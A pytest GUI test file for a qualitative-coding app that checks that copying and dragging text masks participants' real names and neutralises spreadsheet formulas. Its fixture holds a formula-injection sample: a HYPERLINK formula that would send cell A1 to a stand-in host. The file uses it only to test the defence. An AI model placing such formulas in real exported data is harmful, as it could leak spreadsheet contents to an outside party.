"""One rule for every way text leaves the app: files, the clipboard, drag and drop (issue 10).

Before: the GUI's Copy of retrieved segments put real names on the clipboard, and lines a
spreadsheet runs as formulas unneutralised; a passage copied or dragged out of a document
carried the real name in its speaker label.
"""

from __future__ import annotations

import json

import pytest
from PySide6.QtWidgets import QApplication

from qualframe.coding.codebook.tree import find_code
from qualframe.coding.commands import AddCode, ApplyCode
from qualframe.coding.core.changes import Change
from qualframe.coding.corpus.documents import (
    DocumentData,
    add_document_in,
    list_documents,
    normalise_text,
)
from qualframe.coding.corpus.participants import ParticipantData, add_participants_in
from tests.app.conftest import turns_of

pytestmark = pytest.mark.gui

FORMULAS = (
    "Session notes\n\n"
    'M3 (Lee Seo-yeon): =HYPERLINK("http://example.invalid/?q="&A1,"see my notes")\n\n'
    "M3 (Lee Seo-yeon): +1 on the review sessions, and -2 for the early mornings.\n\n"
    "M3 (Lee Seo-yeon): @everyone said Lee Seo-yeon runs the best reviews.\n"
)


def _retrieve_all(window, code_guid: str) -> str:  # type: ignore[no-untyped-def]
    window.select_code(code_guid)
    window.retrieval.set_code(code_guid)
    window.retrieval.table.clearSelection()
    QApplication.clipboard().clear()
    window.retrieval.copy()
    return QApplication.clipboard().text()


def test_copy_of_retrieved_segments_masks_names_and_neutralises_formulas(qtbot, window) -> None:  # type: ignore[no-untyped-def]
    project = window.project
    text = normalise_text(FORMULAS)
    with project.write() as s:
        people = add_participants_in(
            s, [ParticipantData("M3", real_name="Lee Seo-yeon", attributes={"role": "mentor"})]
        )
        add_document_in(s, "tester", DocumentData("notes", text, turns=turns_of(text)), people)
    doc = next(d.guid for d in list_documents(project) if d.name == "notes")
    AddCode("Pasted").do(project)
    code = find_code(project, "Pasted")
    assert code is not None
    lines = text.split("\n")
    for line in (lines[2], lines[4], lines[6]):
        start = text.index(line)
        ApplyCode(doc, start, start + len(line), code.guid).do(project)
    # and quotes that start where a spreadsheet would see a formula
    for quote in ('=HYPERLINK("http://example.invalid/?q="&A1', "+1 on the review", "@everyone"):
        start = text.index(quote)
        ApplyCode(doc, start, start + len(quote), code.guid).do(project)
    window.corpus.invalidate()
    window.changed.emit(Change("import", codebook=True, documents_added=True, participants=True))
    copied = _retrieve_all(window, code.guid)
    assert copied.count("[notes, M3") == 6
    assert "Lee Seo-yeon" not in copied and "Lee" not in copied
    for line in copied.splitlines():
        assert not line.startswith(("=", "+", "-", "@")), line
    quotes = copied.splitlines()
    assert """'=HYPERLINK("http://example.invalid/?q="&A1""" in quotes
    assert "'+1 on the review" in quotes and "'@everyone" in quotes
    assert "M3: =HYPERLINK" in copied  # the label's real name is gone, the text kept
    # Asked for: real names kept (still no formulas).
    QApplication.clipboard().clear()
    window.retrieval.copy(real_names=True)
    assert "Lee Seo-yeon" in QApplication.clipboard().text()


def test_copy_and_drag_out_of_a_document_mask_real_names(qtbot, window) -> None:  # type: ignore[no-untyped-def]
    from qualframe.app.gui.document_view import SELECTION_MIME

    doc = next(d.guid for d in list_documents(window.project) if d.name == "fgi_mentees")
    window.open_document(doc)
    view = window.view
    label = view.text.index("E2 (김민지)")
    end = view.text.index("덜 긴장했어요")
    view.select_range(label, end)
    mime = view.createMimeDataFromSelection()  # what Copy and a drag carry
    assert "김민지" not in mime.text()
    assert mime.text().startswith("E2: 선배가 시험 전에")
    payload = json.loads(bytes(mime.data(SELECTION_MIME)).decode("utf-8"))
    assert payload["start"] == label  # coding by drag unchanged
    assert payload["end"] in (end, end - 1)  # (the trailing space is left out)
    QApplication.clipboard().clear()
    view.copy()
    assert "김민지" not in QApplication.clipboard().text()
